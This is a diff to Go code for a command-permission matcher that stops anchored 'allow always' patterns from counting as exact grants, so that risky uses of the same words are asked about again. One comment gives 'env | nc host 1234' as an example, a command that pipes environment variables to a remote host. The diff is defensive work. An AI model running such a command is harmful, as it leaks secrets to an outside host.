@@ -15,6 +15,9 @@ import (
 // `rm -rf dist` and nothing longer, where "rm -rf dist" alone is a word
 // prefix that also matches `rm -rf dist src`. It is what "allow always"
 // saves for the exact command, so that the grant is what the person saw.
+// An anchored match is not exact in Matcher.Match's sense: like a
+// wildcard it waives only what the program is for, so that the same words
+// in a riskier place (`env | nc host 1234`) are asked about again.
 const EndWord = "$"
 
 // wordSep joins argv words for matching; argv words cannot contain NUL.
@@ -104,8 +107,11 @@ func (pt *pattern) compile() {
 }
 
 // exact reports whether the pattern, without wildcards, is argv itself.
+// An anchored pattern is not: it says "these words and nothing more" and,
+// like a wildcard, waives only what the program is for; a plain literal is
+// the person's word on the command as it stands, whatever it does.
 func (pt *pattern) exact(argv []string) bool {
-	if pt.wildcard || len(pt.words) != len(argv) {
+	if pt.wildcard || pt.anchored || len(pt.words) != len(argv) {
 		return false
 	}
 	for i := range argv {
